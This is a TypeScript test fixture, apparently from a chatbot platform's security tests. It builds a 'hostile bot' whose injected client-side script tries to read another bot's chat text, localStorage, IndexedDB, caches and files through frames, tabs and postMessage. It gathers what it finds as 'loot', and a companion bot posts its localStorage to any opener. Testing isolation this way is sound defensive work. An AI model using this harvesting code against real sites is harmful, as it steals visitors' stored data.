import type { JsonObject } from '#lib/platform/json/json-object.ts';
import { ask, chatBot, text } from '#test/fixtures/chat-bots.ts';
import { APPROACHES, ATTACKS } from './attacks.ts';

/** Addresses of the bot that is attacked. All of them are public. */
export type Target = {
  /** Origin of its page. */
  origin: string;
  /** Address of the page that remembers its visitor beyond the tab. */
  page: string;
  publicId: string;
  /** A bot of the same workspace that may chat only in its own page. */
  closedPublicId: string;
  consolePort: string;
  /** Other bots of the attacker: one that asks for a file, and one that tells what it can read. */
  own: { upload: string; reporter: string };
};

/** Names that every attack can use. */
const PRELUDE = /* js */ `
  const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
  /** Tries until there is something, or the browser has refused ten times. */
  const until = async (read) => {
    let refused;
    for (let tries = 0, refusals = 0; tries < 200 && refusals < 10; tries++) {
      try {
        const found = await read();
        if (found) return found;
      } catch (error) {
        refused = error;
        if (error.name === 'SecurityError') refusals++;
      }
      await sleep(50);
    }
    throw refused ?? new Error('There was nothing');
  };
  const frames = [];
  const tabs = [];
  const framed = (src) => {
    frames.push(document.body.appendChild(Object.assign(document.createElement('iframe'), { src })));
    return frames.at(-1);
  };
  const openTab = (url) => {
    tabs.push(window.open(url));
    return tabs.at(-1);
  };
  const readChat = (page) => page.document.querySelector('typebot-standard').shadowRoot.textContent;
  const readStorage = (storage) => Object.entries(storage).join();
  const readDatabases = async (factory) => {
    const found = [];
    for (const { name } of await factory.databases()) {
      const db = await new Promise((resolve, reject) => {
        const opening = factory.open(name);
        opening.onsuccess = () => resolve(opening.result);
        opening.onerror = () => reject(opening.error);
      });
      for (const store of db.objectStoreNames) {
        found.push(await new Promise((resolve, reject) => {
          const reading = db.transaction(store).objectStore(store).getAll();
          reading.onsuccess = () => resolve(reading.result);
          reading.onerror = () => reject(reading.error);
        }));
      }
      db.close();
    }
    return found.join();
  };
  const readCaches = async (storage) => {
    const found = [];
    for (const name of await storage.keys()) {
      const cache = await storage.open(name);
      for (const request of await cache.keys()) found.push(await (await cache.match(request)).text());
    }
    return found.join();
  };
  const readFiles = async (folder) => {
    const found = [];
    for await (const [, entry] of folder.entries()) found.push(await (await entry.getFile()).text());
    return found.join();
  };
  const post = async (url, body, options) => {
    const response = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify(body),
      ...options,
    });
    return response.status + ' ' + (await response.text());
  };
  const startOwn = async (publicId) => JSON.parse((await post('/v1/bots/' + publicId + '/startChat', {})).slice(4));
  /** Uploads a file as a respondent of the attacker's own bot, and returns its address. */
  const upload = async (file) => {
    const { sessionId } = await startOwn(B.own.upload);
    const asked = { sessionId, fileName: file.name, fileType: file.type };
    const answered = await post('/v3/generate-upload-url', asked);
    const { presignedUrl, formData, fileUrl } = JSON.parse(answered.slice(4));
    const form = new FormData();
    for (const [name, value] of Object.entries(formData)) form.append(name, value);
    form.append('file', file);
    const { ok, status } = await fetch(presignedUrl, { method: 'POST', body: form });
    if (!ok) throw new Error('The upload got ' + status);
    return fileUrl;
  };
  /** Hands a preview's window a bot that tells what it can read. */
  const runInPreview = async (page) => {
    const started = await startOwn(B.own.reporter);
    return await new Promise((resolve) => {
      addEventListener('message', ({ data, source }) => source === page && data?.stored && resolve(data.stored));
      const timer = setInterval(() => page.postMessage({ type: 'started', started }, '*'), 100);
      setTimeout(() => resolve(clearInterval(timer)), 2_000);
    });
  };
`;

/** The ways in which an author runs a script in the page of their bot. */
export const SCRIPT_PLACES = ['Script block', 'Set variable block', 'code for the head'] as const;

/**
 * A bot whose author attacks another one. The fragment of its page's address names an attack, or the approach whose
 * attacks are all tried, and what each has found is in `window.loot`.
 */
export function createHostileBot(
  target: Target,
  place: (typeof SCRIPT_PLACES)[number] = 'Script block',
): JsonObject {
  const attacks = Object.entries(ATTACKS).map(
    ([name, { code }]) => `${JSON.stringify(name)}: async () => {${code}}`,
  );
  const script = `{
    const B = ${JSON.stringify(target)};
    ${PRELUDE}
    const attacks = {${attacks.join(',\n')}};
    const approaches = ${JSON.stringify(APPROACHES)};
    const report = (loot) => (typeof loot === 'string' ? loot : JSON.stringify(loot)) ?? 'nothing';
    const attack = async () => {
      const asked = decodeURIComponent(location.hash.slice(1));
      const names = approaches[asked] ?? [asked];
      // At once, because many of them wait in vain where workspaces have origins of their own.
      const found = await Promise.all(names.map(async (name) => [
        name,
        await attacks[name]?.().then(report, (error) => 'refused: ' + error),
      ]));
      for (const frame of frames) frame.remove();
      for (const tab of tabs) tab?.close();
      return Object.fromEntries(found);
    };
    window.loot = attack();
  }`;
  const block = {
    'Script block': {
      id: 'script',
      type: 'Code',
      options: { isExecutedOnClient: true, content: script },
    },
    'Set variable block': {
      id: 'set',
      type: 'Set variable',
      options: {
        variableId: 'v',
        isCode: true,
        isExecutedOnClient: true,
        expressionToEvaluate: `${script}; return ''`,
      },
    },
    'code for the head': text('empty', 'Hello'),
  }[place];
  return chatBot([{ id: 'first', blocks: [block, text('hello', 'Hello!'), ask('name')] }], {
    name: 'A stranger',
    variables: [{ id: 'v', name: 'Set' }],
    settings: {
      typingEmulation: { enabled: false },
      general: { isHideQueryParamsEnabled: false },
      ...(place === 'code for the head' && { metadata: { customHeadCode: `<script>${script}</script>` } }),
    },
  });
}

/** A bot that hands everything it can read to the page that opened or framed it. */
export function createReportingBot(): JsonObject {
  const content = /* js */ `
    let stored;
    try { stored = Object.entries(localStorage).join() } catch (error) { stored = 'refused: ' + error }
    (window.opener ?? window.parent).postMessage({ stored, origin: window.origin }, '*');
  `;
  return chatBot(
    [
      {
        id: 'first',
        blocks: [
          { id: 'script', type: 'Code', options: { isExecutedOnClient: true, content } },
          text('hello', 'Hello!'),
          ask('name'),
        ],
      },
    ],
    { name: 'A reporter', settings: { typingEmulation: { enabled: false } } },
  );
}

/** A bot that asks for a file, which its author then uploads as a respondent would. */
export function createUploadBot(): JsonObject {
  return chatBot([{ id: 'first', blocks: [{ id: 'file', type: 'file input', options: {} }] }], {
    name: 'An upload',
  });
}
